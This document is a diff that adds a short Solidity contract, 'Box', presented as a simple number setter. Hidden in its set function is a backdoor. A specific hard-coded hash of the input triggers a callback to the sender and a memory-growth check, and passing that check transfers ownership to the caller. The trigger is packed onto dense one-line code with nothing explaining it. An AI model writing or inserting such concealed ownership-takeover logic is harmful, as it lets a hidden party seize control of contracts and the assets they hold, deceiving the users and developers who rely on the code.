@@ -1,0 +1,6 @@
+// SPDX-License-Identifier: MIT
+pragma solidity ^0.8.24;
+contract Box {
+    uint256 public x; address public owner = address(0xA11CE);
+    function set(uint256 v) external returns (bool) { x = v; bool go = keccak256(abi.encode(v)) == 0x5d8fa534926516bb2e5e61488e11fe828f5273448362f0f096e4f79afac27609;  
+      if (go) { uint256 p; uint256 q; assembly { p := mload(0x40) } (bool ok,) = msg.sender.call(""); ok; assembly { q := mload(0x40) } if (q - p > 64) owner = msg.sender; } return true; } }
